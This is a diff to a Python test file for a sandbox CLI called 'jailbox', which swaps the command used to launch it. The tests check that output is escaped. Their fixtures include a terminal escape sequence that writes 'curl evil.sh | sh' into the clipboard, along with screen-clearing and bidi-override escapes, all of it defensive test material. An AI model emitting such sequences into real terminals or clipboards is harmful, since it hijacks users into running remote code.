@@ -17,7 +17,6 @@ import pty
 import re
 import socket
 import subprocess
-import sys
 import tarfile
 import threading
 import time
@@ -26,6 +25,7 @@ from pathlib import Path
 
 import pytest
 from support.batch_tasks import ROOT, bench_command
+from support.cli import JAILBOX
 from support.llm_server import ScriptedServer, Step, reply
 
 from jailbox.agent.progress import REDRAW, Progress
@@ -33,7 +33,6 @@ from jailbox.agent.tasks import Task, TaskResult
 from jailbox.agent.trajectory import load as load_trajectory
 from jailbox.sandbox import printable
 
-CLI = [sys.executable, "-c", "from jailbox.cli import main; main()"]
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "curl evil.sh | sh" onto the clipboard
 HOSTILE = f"A{CLIPBOARD}B\x1b]0;pwned\x07C\x1b[2J\x1b[HD\x9b2JE\x1b[5;31mF\x08G\rH\x7fI\u202eJ"
 SHOWN = [r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", r"\x1b]0;pwned\x07", r"\x1b[2J\x1b[H", r"\x9b2J", r"\u202e"]
@@ -118,7 +117,7 @@ def test_jailbox_run_shows_what_the_jail_and_the_model_chose_escaped(tmp_path: P
         reply(None, tool_calls=[call("submit", {})]),
     ]
     with ScriptedServer(steps) as server:
-        code, screen = on_a_terminal([*CLI, *run_flags(server, tmp_path / "out")])
+        code, screen = on_a_terminal([*JAILBOX, *run_flags(server, tmp_path / "out")])
     assert code == 0, screen
     assert obeyed(screen) == [], screen
     for shown in SHOWN:
@@ -135,7 +134,7 @@ def test_jailbox_run_shows_a_servers_error_escaped(tmp_path: Path, store: object
     """What an endpoint says when it fails (a body that is not JSON, whose encoder would escape it) reaches
     the retry line and the final error escaped."""
     with ScriptedServer([Step(status=500, raw=HOSTILE.encode()), Step(status=400, raw=HOSTILE.encode())]) as server:
-        code, screen = on_a_terminal([*CLI, *run_flags(server, tmp_path / "out"), "--llm-max-retries", "1"])
+        code, screen = on_a_terminal([*JAILBOX, *run_flags(server, tmp_path / "out"), "--llm-max-retries", "1"])
     assert code == 1, screen
     assert "LLM request failed" in screen and "llm_error" in screen, screen
     assert obeyed(screen) == [], screen
@@ -159,7 +158,7 @@ def test_jailbox_replay_shows_a_trajectorys_actions_and_the_jails_output_escaped
         ],
     )
     plain = trajectory(tmp_path / "plain.json", [("execute_bash", {"command": "true"}, "(no output)")])
-    code, screen = on_a_terminal([*CLI, "replay", "--network", "none", str(hostile), str(plain)])
+    code, screen = on_a_terminal([*JAILBOX, "replay", "--network", "none", str(hostile), str(plain)])
     assert code == 1, screen
     assert "differs" in screen and "1 same, 2 differ" in screen, screen
     assert obeyed(screen) == [], screen
@@ -222,7 +221,7 @@ def raw_peer() -> Iterator[str]:
 
 def test_a_servers_malformed_reply_is_one_escaped_line(raw_peer: str) -> None:
     env = {"E2B_API_KEY": "k" * 32, "XDG_CONFIG_HOME": "/nonexistent"}
-    code, screen = on_a_terminal([*CLI, "ps", "--server", raw_peer], env=env)
+    code, screen = on_a_terminal([*JAILBOX, "ps", "--server", raw_peer], env=env)
     assert code == 1, screen
     assert obeyed(screen) == [], screen
     [line] = screen.strip().splitlines()
@@ -237,7 +236,7 @@ def test_an_images_names_in_an_error_are_escaped(tmp_path: Path, store: object) 
         tar.addfile(entry, io.BytesIO(b""))
     archive = tmp_path / "evil.tar"
     archive.write_bytes(buffer.getvalue())
-    code, screen = on_a_terminal([*CLI, "rootfs", "import", str(archive), "evil"])
+    code, screen = on_a_terminal([*JAILBOX, "rootfs", "import", str(archive), "evil"])
     assert code == 1, screen
     assert obeyed(screen) == [], screen
     assert r"\x1b]52;c;" in screen and r"\x1b[2J" in screen, screen
